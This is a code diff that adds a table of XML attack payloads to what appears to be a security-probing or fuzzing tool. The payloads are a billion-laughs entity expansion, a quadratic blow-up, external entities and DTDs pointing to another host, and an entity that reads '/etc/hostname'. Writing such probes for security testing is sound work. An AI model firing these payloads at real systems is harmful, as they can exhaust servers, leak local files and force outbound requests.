@@ -15,6 +15,7 @@ import zlib
 from collections.abc import Iterator
 from dataclasses import dataclass, field
 from datetime import timedelta
+from itertools import pairwise
 from typing import Any, Final
 
 from bot.core.models import Look
@@ -316,6 +317,18 @@ TYPES: Final[tuple[Any, ...]] = (
     "-1",
     "null",
 )
+ENTITIES: Final = {
+    "billion laughs": '<!DOCTYPE a [<!ENTITY a "lol">'
+    + "".join(f'<!ENTITY {each} "{f"&{before};" * 10}">' for before, each in pairwise("abcdefghij"))
+    + "]>",
+    "quadratic blow-up": '<!DOCTYPE a [<!ENTITY j "' + "lol" * 300_000 + '">]>',
+    "an entity of elsewhere": '<!DOCTYPE a [<!ENTITY j SYSTEM "{base}/elsewhere">]>',
+    "an entity of this machine": '<!DOCTYPE a [<!ENTITY j SYSTEM "file:///etc/hostname">]>',
+    "a type of elsewhere": '<!DOCTYPE a SYSTEM "{base}/elsewhere">',
+    "parameters of elsewhere": '<!DOCTYPE a [<!ENTITY % p SYSTEM "{base}/elsewhere"> %p;]>',
+}
+"""Before a good answer; ``j`` is an entity to put into it."""
+
 EVERY_NTH: Final = 7
 """So much of a page stays as it was that it is still one."""
 VALUES: Final = (*TYPES, *NUMBERS, *TIMES, *SHOUTS, *ADDRESSES)
